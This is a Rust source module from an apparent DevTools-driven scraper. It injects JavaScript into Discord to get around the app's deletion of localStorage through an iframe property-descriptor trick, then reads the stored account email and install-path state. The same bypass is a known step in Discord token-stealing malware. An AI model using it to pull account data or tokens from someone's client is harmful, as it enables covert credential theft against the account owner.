//! Reads keys out of Discord's `localStorage`.
//!
//! Discord deletes `window.localStorage` from the main context once it has
//! booted. The property descriptor is still reachable through a fresh iframe:
//! grab the descriptor from the frame's window, drop the frame, and call the
//! getter without a receiver. The getter does not check `this`, so it hands
//! back the main context's storage object.

use serde_json::Value;
use tracing::{debug, instrument};
use uuid::Uuid;

use crate::dom;
use crate::error::ScrapeError;
use crate::locators::js_string;
use crate::protocol::DevtoolsChannel;

/// Account email, stored as a JSON string (quotes included).
pub const EMAIL_KEY: &str = "email_cache";
/// Install manager state; its `_state.installationPaths` lists install roots.
pub const INSTALL_MANAGER_KEY: &str = "InstallationManagerStore";

/// Build the extraction script for `key`. The helper function name embeds
/// `nonce` so repeated evaluations in one page never collide.
pub fn storage_script(key: &str, nonce: &str) -> String {
    format!(
        r#"(function () {{
  function storage_{nonce}() {{
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const descriptor = Object.getOwnPropertyDescriptor(frame.contentWindow, 'localStorage');
    frame.remove();
    return descriptor;
  }}
  return storage_{nonce}().get.apply()[{key}];
}})()"#,
        nonce = nonce,
        key = js_string(key),
    )
}

fn fresh_nonce() -> String {
    Uuid::new_v4().simple().to_string()
}

/// Raw stored value for `key`, or `None` when the key is absent.
#[instrument(skip(channel))]
pub async fn extract<C>(channel: &mut C, key: &str) -> Result<Option<String>, ScrapeError>
where
    C: DevtoolsChannel + ?Sized,
{
    let script = storage_script(key, &fresh_nonce());
    let value = dom::evaluate(channel, &script).await?;
    debug!(found = value.is_some(), "Storage lookup finished");

    match value {
        None | Some(Value::Null) => Ok(None),
        Some(Value::String(raw)) => Ok(Some(raw)),
        Some(other) => Ok(Some(other.to_string())),
    }
}

/// The stored email is JSON-encoded; decode it, falling back to stripping
/// the surrounding quotes by hand.
pub fn decode_email(raw: &str) -> String {
    match serde_json::from_str::<String>(raw) {
        Ok(email) => email,
        Err(_) => raw.trim().trim_matches('"').to_string(),
    }
}
